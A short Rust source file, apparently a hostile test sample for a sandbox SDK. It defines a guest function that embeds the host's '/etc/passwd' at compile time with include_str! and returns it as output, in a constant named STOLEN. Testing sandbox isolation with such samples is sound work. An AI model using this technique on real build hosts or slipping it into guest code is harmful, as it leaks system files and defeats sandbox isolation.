//! Asks the compiler for a file of the host.

use terrarium_sdk::{Function, Result, export_function};

#[derive(Default)]
struct Guest;

const STOLEN: &str = include_str!("/etc/passwd");

impl Function for Guest {
    fn call(&mut self, input: &[u8]) -> Result<Vec<u8>> {
        let _ = input;
        Ok(STOLEN.as_bytes().to_vec())
    }
}

export_function!(Guest);
